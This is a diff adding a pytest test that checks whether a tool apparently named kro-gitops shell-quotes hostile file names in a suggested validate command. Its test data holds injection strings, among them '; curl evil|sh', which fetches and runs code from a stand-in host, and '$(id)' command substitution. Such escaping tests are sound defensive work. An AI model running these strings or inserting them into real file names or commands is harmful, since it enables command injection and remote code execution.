@@ -80,6 +80,19 @@ def test_a_rejected_version_is_named_with_its_place_and_the_next_commands() -> N
 
 
 @pytest.mark.parametrize(
+    ("file", "argument"),
+    [
+        ("apps/a.yaml; curl evil|sh", "'apps/a.yaml; curl evil|sh'"),
+        ("$(id).yaml", "'$(id).yaml'"),
+        ("--strict", "./--strict"),
+    ],
+)
+def test_a_hostile_file_name_is_quoted_in_the_command_to_copy(file: str, argument: str) -> None:
+    (cause,) = causes(source({**FAILURE, "file": file}))
+    assert cause.steps[0].endswith(f"kro-gitops validate {argument}")
+
+
+@pytest.mark.parametrize(
     "subject", ["WebApp shop/front", "WebApp.kro.run shop/front", "WebApp/shop/front", ""]
 )
 def test_a_failure_names_the_object_or_only_its_file(subject: str) -> None:
